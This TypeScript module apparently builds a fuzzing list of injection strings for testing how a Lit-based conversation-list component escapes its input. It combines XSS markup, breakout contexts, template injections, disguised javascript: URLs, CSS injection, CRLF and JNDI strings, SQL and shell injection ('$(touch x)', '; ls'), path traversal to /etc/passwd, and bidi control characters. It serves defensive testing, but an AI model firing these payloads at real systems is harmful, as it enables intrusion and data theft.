/**
 * Texts that are code, markup, addresses, styles or controls somewhere: templates times contexts.
 *
 * What would run sets `__xss` on the window or asks a server for `/xss`, so that a page can tell.
 */

/** What an injection would do. */
const ACTIONS = ['window.__xss=1', 'alert(1)', "fetch('/xss')", "import('/xss.js')"];

/** Markup that runs, loads or navigates; `X` is what it does. */
const MARKUP = [
  '<script>X</script>', '<script src=/xss.js></script>', '<script type=module>X</script>',
  '<img src=/xss onerror="X">',
  '<img srcset="/xss 1x">', '<image href=/xss onerror="X">', '<svg onload="X">', '<svg><script>X</script></svg>',
  '<svg><animate onbegin="X" attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg onload=X>#x"/></svg>',
  '<svg><a xlink:href="javascript:X"><text>t</text></a></svg>',
  '<svg><foreignObject><body onload="X"></foreignObject></svg>',
  '<math><mtext><img src=/xss onerror="X"></mtext></math>', '<iframe src="javascript:X"></iframe>',
  '<iframe srcdoc="<script>X</script>">',
  '<iframe src=/xss></iframe>', '<object data="javascript:X"></object>', '<embed src="/xss">',
  '<details open ontoggle="X">d</details>',
  '<input autofocus onfocus="X">', '<body onload="X">', '<video src=/xss onerror="X"></video>',
  '<video><source onerror="X"></video>',
  '<audio src=/xss autoplay>', '<marquee onstart="X">m</marquee>', '<a href="javascript:X">a</a>',
  '<form action="javascript:X"><button>b</button></form>',
  '<link rel=stylesheet href=/xss>', '<link rel=prefetch href=/xss>',
  '<meta http-equiv=refresh content="0;url=/xss">', '<base href="//xss.example/">',
  '<style>*{background:url(/xss)}</style>', '<style>@import "/xss";</style>', '<p style="background:url(/xss)">p</p>',
  '<template shadowrootmode=open><script>X</script></template>', '<slot name=header onslotchange="X"></slot>',
  '<im-conversation-list onload="X">',
  '<x onclick="X" tabindex=1 autofocus>', '<div popover onbeforetoggle="X">', '<dialog open onclose="X">',
  '<button formaction="javascript:X">',
  '<table background="/xss">', '<noscript><img src=/xss onerror="X"></noscript>',
  '<xmp><img src=/xss onerror="X"></xmp>',
];

/** What an injection would have to break out of first. */
const CONTEXTS: readonly ((payload: string) => string)[] = [
  (p) => p,
  (p) => `">${p}`,
  (p) => `'>${p}<!--`,
  (p) => `--></bdi></span></div>${p}`,
  (p) => `</title></textarea></style></script>${p}`,
  (p) => `]]>${p}<![CDATA[`,
  (p) => p.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;'),
  (p) => encodeURIComponent(p),
  (p) => p.replace(/[a-z]+/, (word) => word.toUpperCase()).replaceAll('<', '<<'),
  (p) => p.replace('<', '\\u003c').replaceAll('=', '\\x3d'),
];

/** Strings, comments and literals of a script. */
const SCRIPT = [
  "';X;//", '";X;//', '`;X;//', '${X}', '`${X}`', "');X;('", '*/X/*', '\\u2028X', "-X-'",
  '</script><script>X</script>', 'javascript:X',
  "'+X+'", '__proto__[x]=X', 'constructor.constructor("X")()', '{"toString":"X"}', '(()=>{X})()',
];

/** Template languages and the marks that Lit itself uses. */
const TEMPLATE = [
  '{{X}}', '{{constructor.constructor("X")()}}', '{{{X}}}', '<%= X %>', '<%- X %>', '#{X}', '#set($x=X)', '{% X %}',
  '[[X]]', '@{X}', '*{X}',
  '{X}', 'v-html="X"', 'ng-init="X"', '<!--?lit$123$-->', '?lit$0$X', 'lit$123456789$', '<!--lit-part X-->',
  '@click=${X}', '.innerHTML=${X}',
];

/** Addresses in disguise; `S` is a scheme. */
const SCHEMES = ['javascript:X', 'data:text/html,<script>X</script>', 'vbscript:X', 'blob:X', 'file:///xss', '//xss.example/', 'https:/xss'];
const DISGUISES: readonly ((url: string) => string)[] = [
  (u) => u,
  (u) => ` \t${u}`,
  (u) => `\u0001${u}`,
  (u) => u.replace(/^../, '$&\n'),
  (u) => u.toUpperCase(),
  (u) => u.replace(':', '&colon;'),
  (u) => `url(${u})`,
];

const STYLE = [
  'red;background:url(/xss)', 'expression(X)', 'x:expression(X)', '}*{display:none}', '}</style>', '@import"/xss";',
  'url(/xss)', 'image-set("/xss" 1x)',
  'var(--x,url(/xss))', 'red}:host{display:none', '\\75rl(/xss)', '/*', ';content:attr(data-id)',
  'behavior:url(/xss)', '-moz-binding:url(/xss#x)',
  '{color:red}', 'cursor:url(/xss),auto', 'red;--im-conversation-list-row-height:1e9px', 'position:fixed;inset:0',
  '::part(row){display:none}',
];

const FORMAT = [
  '%s%s%s%n', '%x%08x', '%d %i %o %c', '%%20%00', '{0}{1}', '{}', '$1$2$&', "$'$`$$", '\\1\\2',
  '%0d%0aSet-Cookie: x=1', 'a\r\nLocation: /xss', '${jndi:ldap://xss/a}',
  "' OR '1'='1", '1; DROP TABLE x--', '$(touch x)', '`id`', '| cat', '; ls', '../../../etc/passwd',
  '..\\..\\x', '=1+1', '+1+1', '-1+1', '@SUM(1)', '=HYPERLINK("/xss")',
  'NaN', 'null', 'undefined', 'true', '[object Object]', '__proto__', 'constructor', 'hasOwnProperty', '0x0',
  '1e309', '-0', '\\', '\\\\', '\\n', '/', '&', '&amp;', '&#0;', '&#x202e;',
];

/** Controls of direction, each where it would do harm. */
const BIDI = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'].flatMap((control) => [
  `${control}abc`, `abc${control}`, `a${control}b${control}c`, `${control}${control}\u05d0\u05d1 12:34`,
]);

const CONTROLS = [
  'a\u0000b', 'a\u0007\u0008b', '\u001b[31mred\u001b[0m', '\u001b]0;title\u0007', 'a\u007fb', 'a\u0085b',
  'a\u2028b\u2029c', '\u009b31m', 'a\ufeffb', 'a\u200bb', '\ufffe\uffff',
  '\ud800', 'a\udc00b', '\udfff\ud800', `e${'\u0301'.repeat(40)}`, `\u0e01${'\u0e49'.repeat(40)}`, '\u{e0041}\u{e0042}\u{e007f}', '\ufffc', '\u{1f468}\u200d'.repeat(30), '\ufdfd'.repeat(9),
];

const perform = (templates: readonly string[], actions = ACTIONS): string[] =>
  templates.flatMap((template) => (template.includes('X') ? actions.map((action) => template.replaceAll('X', action)) : [template]));

/** All of them, each once. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    // Each piece of markup in each context, with one action after the other.
    ...MARKUP.flatMap((markup, i) =>
      CONTEXTS.map((context, j) => context(markup.replaceAll('X', ACTIONS[(i + j) % ACTIONS.length] as string))),
    ),
    ...perform(SCRIPT),
    ...perform(TEMPLATE, ACTIONS.slice(0, 2)),
    ...perform(SCHEMES, ACTIONS.slice(0, 1)).flatMap((url) => DISGUISES.map((disguise) => disguise(url))),
    ...perform(STYLE, ACTIONS.slice(0, 1)),
    ...FORMAT,
    ...BIDI,
    ...CONTROLS,
  ]),
];
